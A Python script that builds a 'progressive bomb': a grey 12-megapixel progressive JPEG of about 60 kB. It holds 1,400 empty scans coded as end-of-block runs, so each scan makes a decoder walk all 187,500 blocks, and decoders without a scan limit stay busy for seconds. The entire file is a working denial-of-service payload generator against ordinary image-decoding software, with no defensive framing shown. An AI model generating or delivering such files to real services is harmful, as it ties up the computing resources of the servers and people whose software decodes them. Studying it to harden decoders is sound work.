"""A progressive JPEG that is small and slow: each of its scans makes a decoder walk over every block of the picture.

One scan that changes nothing costs 24 bytes here ("the next 32,767 blocks end now", six times), but a walk over 187,500
blocks there. Decoders that set no limit to the scans are busy for seconds.
"""

from __future__ import annotations

import struct

WIDTH, HEIGHT = 4000, 3000
BLOCKS = (WIDTH // 8) * (HEIGHT // 8)
LONGEST_RUN = 2**15 - 1


def segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def one_code_table(table: int, symbol: int) -> bytes:
    """A Huffman table with a single code, "0", for `symbol`."""
    return segment(0xC4, bytes([table, 1]) + bytes(15) + bytes([symbol]))


def entropy_coded(bits: str) -> bytes:
    """Bits -> bytes, filled up with ones; a zero follows every 255, as the format demands."""
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\x00")


def scan(first: int, last: int, bits: str) -> bytes:
    """One scan over the coefficients first..last of the only component."""
    return segment(0xDA, bytes([1, 1, 0x00, first, last, 0x00])) + entropy_coded(bits)


def progressive_bomb(scans: int = 1400) -> bytes:
    """A grey 12-megapixel JPEG of about 60 kB; all samples are 128."""
    frame = struct.pack(">BHHBBBB", 8, HEIGHT, WIDTH, 1, 1, 0x11, 0)
    tables = segment(0xDB, bytes([0]) + bytes([16]) * 64) + one_code_table(0x00, 0) + one_code_table(0x10, 0xE0)
    # symbol 0xE0: a run of 2**14 blocks plus the next 14 bits
    runs = ("0" + "1" * 14) * -(-BLOCKS // LONGEST_RUN)
    constant = scan(0, 0, "0" * BLOCKS)
    return b"\xff\xd8" + tables + segment(0xC2, frame) + constant + scan(1, 63, runs) * scans + b"\xff\xd9"
